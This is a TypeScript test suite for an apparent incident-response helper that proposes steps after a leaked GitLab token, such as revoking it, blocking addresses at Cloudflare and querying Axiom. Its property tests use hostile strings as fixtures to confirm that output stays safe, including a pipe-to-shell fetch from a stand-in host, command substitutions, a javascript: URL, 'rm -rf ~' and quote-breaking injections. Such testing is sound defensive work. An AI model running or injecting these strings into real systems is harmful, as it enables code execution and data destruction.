import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CaseFile } from '../../../../functions/core/case-file.ts';
import { currentFindings } from '../../../../functions/core/case-file.ts';
import { axiomQuery } from '../../../../functions/core/case-view/steps/axiom-query.ts';
import { blockCommands } from '../../../../functions/core/case-view/steps/block-commands.ts';
import type { NextStepsFacts } from '../../../../functions/core/case-view/steps/next-step.ts';
import { nextSteps } from '../../../../functions/core/case-view/steps/next-steps.ts';
import { complete, unavailable } from '../../../../functions/core/coverage.ts';
import { addressesOf } from '../../../../functions/core/finding-addresses.ts';
import { HOUR, instant, MINUTE } from '../../../../functions/core/time.ts';
import {
  hostileCaseFile,
  monitorCaseFile,
  openedCaseFile,
  quietCaseFile,
  reportedOnly,
  sampleCaseFile,
} from '../../../support/case-files.ts';
import { credential, finding, match, NOON, sighting, tokenUse, WINDOW } from '../../../support/evidence.ts';
import { shellWords } from './shell-words.ts';

/** The sample, of which nobody ordered a page. */
const UNPAGED: CaseFile = { ...reportedOnly(sampleCaseFile()), incidents: [] };

function factsOf(file: CaseFile, more: Partial<NextStepsFacts> = {}): NextStepsFacts {
  return {
    file,
    now: NOON + HOUR,
    slack: 30 * MINUTE,
    lookMinutes: [5, 15, 60],
    gitlabUrl: 'https://gitlab.example.com',
    ...more,
  };
}

function idsOf(file: CaseFile, more: Partial<NextStepsFacts> = {}): string[] {
  return nextSteps(factsOf(file, more)).steps.map(({ id }) => id);
}

/** The case with another state. */
function withState(file: CaseFile, state: Partial<NonNullable<CaseFile['state']>>): CaseFile {
  return { ...file, ...(file.state && { state: { ...file.state, ...state } }) };
}

/** The case with these findings at each look. */
function withFindings(file: CaseFile, ...findings: readonly ReturnType<typeof finding>[]): CaseFile {
  return { ...file, looks: file.looks.map((look) => ({ ...look, findings })) };
}

function commandsOf(file: CaseFile): string[] {
  const { steps } = nextSteps(factsOf(file));
  return steps.flatMap(({ blocks }) => blocks.flatMap(({ commands }) => commands.map(({ text }) => text)));
}

function textOf(file: CaseFile, more: Partial<NextStepsFacts> = {}): string {
  return JSON.stringify(nextSteps(factsOf(file, more)));
}

describe('what to do next', () => {
  it('is, for a page, to ask, stop, look, block and teach, in this order', () => {
    expect(idsOf(sampleCaseFile())).toEqual(['ask', 'stop', 'look', 'block', 'false-alarm', 'coverage']);
    const { steps } = nextSteps(factsOf(sampleCaseFile()));
    expect(steps[0]?.blocks[0]?.sentences).toContainEqual(
      expect.stringMatching(/^Token 42 .* ask sam whether they worked from 203\.0\.113\.7/),
    );
    expect(steps[1]?.blocks[1]?.commands[0]?.text).toContain('/api/v4/personal_access_tokens/42');
  });

  it('says in shadow mode that nobody was paged, and of a report that it can wait', () => {
    expect(nextSteps(factsOf(withState(sampleCaseFile(), { shadow: true }))).lead).toContain('shadow mode');
    const report = withFindings(UNPAGED, finding({ decision: 'report' }));
    const { lead, steps } = nextSteps(factsOf(report));
    expect(lead).toContain('below page level');
    expect(steps[1]?.title).toBe('If it turns out to be theft: take the key away');
    expect(steps[1]?.blocks[0]?.sentences[0]).toMatch(/^Only if it turns out to be theft/);
  });

  it('has commands for credentials at page level alone, and leads to the findings for the others', () => {
    const others = Array.from({ length: 47 }, (_, index) =>
      finding({ credential: credential({ id: `token/${900 + index}`, name: 'ci' }), decision: 'report' }),
    );
    const file = withFindings(sampleCaseFile(), finding({ decision: 'page' }), ...others);
    expect(commandsOf(file).join('\n')).toContain('personal_access_tokens/42');
    expect(commandsOf(file).join('\n')).not.toMatch(/tokens\/9\d\d/);
    const { lead, steps } = nextSteps(factsOf(file));
    expect(lead).toContain('With one minute to spend, begin with step 2.');
    expect(steps[0]?.blocks.at(-1)).toMatchObject({
      sentences: ['47 further credentials are below page level: look at them in working hours.'],
      links: [{ href: '#findings' }],
    });
  });

  it('has, where nothing is at page level, commands for the worst alone, and blocks nothing', () => {
    const [worst, ...others] = [50, 51, 52].map((id) =>
      finding({ credential: credential({ id: `token/${id}` }), decision: 'report', score: 100 - id }),
    );
    if (worst === undefined) throw new Error('no finding');
    const text = commandsOf(withFindings(sampleCaseFile(), worst, ...others)).join('\n');
    expect(text).toContain('personal_access_tokens/50');
    expect(text).not.toMatch(/tokens\/5[12]/);
    expect(text).not.toContain('access_rules');
    expect(idsOf(withFindings(monitorCaseFile(), worst, ...others))).not.toContain('block');
  });

  it('proposes no address as known egress, and says that a list replaces the list', () => {
    for (const decision of ['page', 'report'] as const) {
      const file = withFindings(UNPAGED, finding({ decision }));
      const block = nextSteps(factsOf(file)).steps.find(({ id }) => id === 'false-alarm')?.blocks[0];
      expect(block?.sentences.join(' ')).toContain('replaces the one that is there');
      expect(block?.commands[0]?.text).toBe('"knownEgress": ["<all it holds by now>", "<yours>"]');
    }
  });

  it('holds what another case had paged, or an earlier look, at page level', () => {
    const report = finding({ decision: 'report', score: 40 });
    const paged = { ...withFindings(UNPAGED, report), incidents: sampleCaseFile().incidents };
    const told = nextSteps(factsOf(paged));
    expect(told.lead).not.toMatch(/Nobody|working hours/);
    expect(told.lead).toContain('Another case had this paged');
    expect(told.steps[1]?.title).toBe('Take the key away');
    expect(told.urgent).toEqual({ id: 'next-stop-now', text: 'Revoke token 42: the command is ready' });
    const [first, second] = withFindings(UNPAGED, finding()).looks;
    if (first === undefined || second === undefined) throw new Error('the case has two looks');
    const sticky = withState({ ...UNPAGED, looks: [first, { ...second, findings: [report] }] }, {});
    expect(nextSteps(factsOf(sticky)).steps[1]?.title).toBe('Take the key away');
    expect(nextSteps(factsOf(sticky)).lead).toContain('begin with step 2');
  });

  it('asks about exact times at each address, and not when GitLab was read', () => {
    const at = (address: string, minutes: number, more: Parameters<typeof tokenUse>[0] = {}) =>
      match({ use: tokenUse({ address, network: address, at: instant(NOON - minutes * MINUTE), ...more }) });
    const read = { at: { notBefore: 0, notAfter: NOON } };
    const matches = [
      at('203.0.113.7', 16),
      at('203.0.113.7', 12),
      at('203.0.113.7', 0, read),
      at('203.0.113.8', 0, read),
    ];
    const found = finding({ matches, addresses: addressesOf(matches), matchCount: 4 });
    const text = textOf(withFindings(sampleCaseFile(), found));
    expect(text).toContain('from 203.0.113.7 between 2031-05-06T11:44:00.000Z and 2031-05-06T11:48:00.000Z');
    expect(text).toContain('or from 203.0.113.8 at an unknown time up to 2031-05-06T12:00:00.000Z');
  });

  it('lists what each owner at page level had made, from the first exact act on, else from the start of the window', () => {
    const of = (id: number, use: Parameters<typeof tokenUse>[0]) => {
      const matches = [match({ use: tokenUse({ credential: `token/${id}`, ...use }) })];
      const owner = { id, username: `u${id}` };
      return finding({
        credential: credential({ id: `token/${id}`, owner }),
        matches,
        addresses: addressesOf(matches),
      });
    };
    const exact = of(7, { at: instant(NOON - 10 * MINUTE) });
    const vague = of(8, { at: { notBefore: 0, notAfter: NOON } });
    const text = commandsOf(withFindings(sampleCaseFile(), exact, vague)).join('\n');
    expect(text).toContain('user_id=7&created_after=2031-05-06T11%3A49%3A00.000Z');
    expect(text).toContain('user_id=8&created_after=2031-05-06T11%3A15%3A00.000Z');
  });

  it.each([{ revoked: true }, { active: false }, { expiresAt: NOON - HOUR }])(
    'does not send anybody to a step with nothing to run: %j',
    (ended) => {
      const { lead, steps, urgent } = nextSteps(
        factsOf(withFindings(sampleCaseFile(), finding({ credential: credential(ended) }))),
      );
      expect(lead).toContain('begin with step 3');
      expect(urgent).toBeUndefined();
      expect(JSON.stringify(steps[0])).not.toContain('Do not wait');
      expect(steps[1]).toMatchObject({ title: 'See that the key stays ended' });
      expect(steps[1]?.blocks.flatMap(({ commands }) => commands)).toEqual([]);
    },
  );

  it('leads to the words where no command can end what is at page level', () => {
    const key = credential({ id: 'deploy-key/9', kind: 'deploy-key' });
    expect(nextSteps(factsOf(withFindings(sampleCaseFile(), finding({ credential: key })))).urgent).toEqual({
      id: 'next-stop',
      text: 'How to take the key away',
    });
  });

  it("leads to the zone's events at Cloudflare for a spike, where the zone is known", () => {
    const linksOf = (file: CaseFile) =>
      nextSteps(factsOf(file)).steps.flatMap(({ blocks }) =>
        blocks.flatMap(({ links }) => links.map(({ href }) => href)),
      );
    const events = 'https://dash.cloudflare.com/?to=/:account/example.com/security/analytics/events';
    expect(linksOf(sampleCaseFile())).toContain(events);
    const { alert, ...unknown } = sampleCaseFile();
    expect(linksOf(unknown).join(' ')).not.toContain('dash.cloudflare.com');
  });

  it('asks about the acts of an owner that were recorded, not about when the token list was read', () => {
    const listed = tokenUse({ at: { notBefore: NOON - 200 * 24 * HOUR, notAfter: NOON }, sources: ['inventory'] });
    // Audit events name the person, not the token.
    const act = (minutes: number) =>
      tokenUse({ credential: 'user/7', strength: 'acted', at: instant(NOON - minutes * MINUTE) });
    const matches = [listed, act(12), act(8)].map((use) => match({ use }));
    const file = withFindings(sampleCaseFile(), finding({ matches, matchCount: 3, addresses: addressesOf(matches) }));
    expect(textOf(file)).toContain('from 203.0.113.7 between 2031-05-06T11:48:00.000Z and 2031-05-06T11:52:00.000Z');
    expect(commandsOf(file).join()).toContain('created_after=2031-05-06T11%3A47');
  });

  it('asks for a machine those who look after it, and for nobody where the owner is not known', () => {
    const bot = finding({
      credential: credential({ kind: 'project', resource: 'acme/shop', owner: { id: 9, bot: true } }),
    });
    expect(textOf(withFindings(sampleCaseFile(), bot))).toContain('Ask who looks after project acme/shop');
    const root = finding({ credential: credential({ owner: { id: 1, username: 'root', admin: true } }) });
    expect(textOf(withFindings(sampleCaseFile(), root))).toContain('ask root, an administrator, whether they worked');
    const { owner, ...rest } = credential();
    expect(textOf(withFindings(sampleCaseFile(), finding({ credential: rest })))).toContain('did not say whose it is');
  });

  it('is nothing where nothing matched and all could be seen', () => {
    const look = { cloudflare: complete(), inventory: complete(), audit: complete() };
    const file = quietCaseFile();
    const { alert, ...quiet } = { ...file, looks: file.looks.map((one) => ({ ...one, coverage: look })) };
    expect(nextSteps(factsOf(quiet))).toEqual({
      lead: 'Nothing matched: there is no credential to act on.',
      steps: [],
    });
  });

  it('is to close the gap where nothing matched and something could not be seen', () => {
    const blind = withState(quietCaseFile(), {
      coverage: { audit: 'unavailable', inventory: 'complete', cloudflare: 'complete' },
    });
    const { lead, steps } = nextSteps(factsOf(blind));
    expect(lead).toContain('stays open');
    expect(steps.map(({ id }) => id)).toContain('coverage');
  });

  it('is the doctor where GitLab could not be asked', () => {
    const file = withState(quietCaseFile(), { verdict: 'undetermined' });
    const looks = file.looks.map((look) => ({
      ...look,
      coverage: { cloudflare: complete(), inventory: unavailable('401: token expired.') },
    }));
    const { lead, steps } = nextSteps(factsOf({ ...file, looks }));
    expect(lead).toContain('no all-clear');
    expect(steps[0]).toMatchObject({ id: 'doctor', blocks: [{ commands: [{ text: 'npm run doctor' }] }] });
    expect(steps[0]?.blocks[0]?.sentences).toContain("GitLab's token lists: 401: token expired.");
    expect(steps[1]?.id).toBe('keep-logs');
  });

  it('is to wait for the first look, and to worry once it is late', () => {
    expect(nextSteps(factsOf(openedCaseFile(), { now: NOON + MINUTE })).steps).toEqual([]);
    expect(idsOf(openedCaseFile(), { now: NOON + HOUR })).toEqual(['doctor']);
  });

  it('is, for a monitor without a finding, to see the attack at Cloudflare and block what most of it comes from', () => {
    const file = withState(withFindings(monitorCaseFile()), { verdict: 'not-observed' });
    const attack = nextSteps(factsOf(file)).steps.find(({ id }) => id === 'attack')?.blocks[0];
    expect(attack?.links[0]?.href).toBe(
      'https://dash.cloudflare.com/?to=/:account/example.com/security/analytics/events',
    );
    expect(attack?.commands[0]?.title).toBe('Block 203.0.113.7 on example.com');
  });

  it('says that the credentials could not be read where a verdict tells of some', () => {
    const file = sampleCaseFile();
    const unread = { ...file, looks: file.looks.map(({ findings, ...look }) => look) };
    expect(nextSteps(factsOf(unread)).lead).toContain('could not be read here. End Token 42, by the page');
    const { state, ...lost } = quietCaseFile();
    expect(nextSteps(factsOf(lost)).lead).toContain('not stored');
  });
});

describe('blocking at Cloudflare', () => {
  const on = (address: string, network = address, zone = 'a'.repeat(32)) => {
    const matches = [
      match({
        sighting: sighting({ address, network, zone: { id: zone, name: 'example.com' } }),
        use: tokenUse({ address, network }),
      }),
    ];
    return finding({ matches, addresses: addressesOf(matches), networks: [network] });
  };
  const bodyOf = (text: string) => JSON.parse(shellWords(text).map((word) => word.text)[9] ?? '');

  it('is one documented call in the zone that saw the address', () => {
    const [command] = blockCommands(sampleCaseFile(), [on('203.0.113.7')]);
    const words = shellWords(command?.text ?? '').map(({ text }) => text);
    expect(words.at(-1)).toBe(
      `https://api.cloudflare.com/client/v4/zones/${'a'.repeat(32)}/firewall/access_rules/rules`,
    );
    expect(bodyOf(command?.text ?? '')).toMatchObject({
      mode: 'block',
      configuration: { target: 'ip', value: '203.0.113.7' },
    });
  });

  it('takes the network of an IPv6 host', () => {
    const [command] = blockCommands(sampleCaseFile(), [on('2001:db8::7', '2001:db8::/64')]);
    expect(bodyOf(command?.text ?? '').configuration).toEqual({ target: 'ip_range', value: '2001:db8::/64' });
  });

  it('is not offered for shared networks, nor where zone or address is of another form', () => {
    const shared = { ...on('203.0.113.7'), sharedNetworks: ['203.0.113.7'] };
    const { alert, ...file } = sampleCaseFile();
    expect(blockCommands(file, [shared])).toEqual([]);
    expect(blockCommands(file, [on('203.0.113.7', '203.0.113.7', "a'; id; '")])).toEqual([]);
    expect(blockCommands(file, [on("203.0.113.7'")])).toEqual([]);
  });
});

describe('the query for Axiom', () => {
  const facts = { dataset: 'cloudflare-http', addressField: undefined, window: WINDOW, slack: 30 * MINUTE };

  it('asks for the addresses in the window and its slack, IPv6 by network', () => {
    const matches = [match(), match({ use: tokenUse({ address: '2001:db8::7', network: '2001:db8::/64' }) })];
    expect(axiomQuery({ ...facts, findings: [finding({ addresses: addressesOf(matches) })] })?.text).toBe(
      [
        "['cloudflare-http']",
        '| where _time between (datetime(2031-05-06T10:45:00.000Z) .. datetime(2031-05-06T12:30:00.000Z))',
        "| where ['ClientIP'] in ('203.0.113.7') or ipv6_is_in_any_range(['ClientIP'], dynamic(['2001:db8::/64']))",
        '| sort by _time asc',
        '| limit 1000',
      ].join('\n'),
    );
  });

  it('is none where a name, an address or a time is of another form', () => {
    const findings = [finding()];
    expect(axiomQuery({ ...facts, findings, dataset: undefined })).toBeUndefined();
    expect(axiomQuery({ ...facts, findings, dataset: "x'] | take 1 //" })).toBeUndefined();
    expect(axiomQuery({ ...facts, findings, addressField: "a'] or true //" })).toBeUndefined();
    expect(axiomQuery({ ...facts, findings, window: { start: Number.NaN, end: NOON } })).toBeUndefined();
    const addresses = addressesOf([match({ use: tokenUse({ address: "') or true //", network: "')/64" }) })]);
    expect(axiomQuery({ ...facts, findings: [finding({ addresses })] })).toBeUndefined();
  });
});

describe('a case that somebody hostile wrote into', () => {
  const texts = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.constantFrom(
      "'; curl evil.example | sh #",
      '$(id)',
      '`id`',
      'javascript:alert(1)',
      '//evil.example',
      '../../x',
      'https://evil.example@gitlab.example.com',
      '\n\nrm -rf ~\n',
    ),
  );

  it('leads nowhere but to GitLab and Cloudflare, and has only commands of one call', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const file = hostileCaseFile(text);
        const found = nextSteps(factsOf(file, { axiomDataset: text, axiomAddressField: text }));
        const lost = nextSteps(factsOf(withState(withFindings(file), { verdict: 'not-observed' })));
        expect(currentFindings(file).length).toBeGreaterThan(0);
        for (const { links, commands } of [...found.steps, ...lost.steps].flatMap(({ blocks }) => blocks)) {
          for (const { href } of links) {
            if (href === '#findings') continue;
            const { origin, username } = new URL(href);
            expect(
              href.startsWith('https://gitlab.example.com/') ||
                origin === 'https://dash.cloudflare.com' ||
                new URL(href).hostname.endsWith('cloudflare.com'),
            ).toBe(true);
            expect(username).toBe('');
          }
          for (const command of commands) {
            if (command.language === 'apl') {
              expect(command.text).toMatch(
                /^\['[\w.-]+'\]\n\| where _time between \(.{72}\)\n\| where \['[\w@.-]+'\] in \('203\.0\.113\.7'\)\n/,
              );
              continue;
            }
            if (command.language === 'shell') expect(['curl', 'npm']).toContain(shellWords(command.text)[0]?.text);
            else expect(command.text).not.toContain('203.0.113.7');
          }
        }
      }),
      { numRuns: 200 },
    );
  });
});
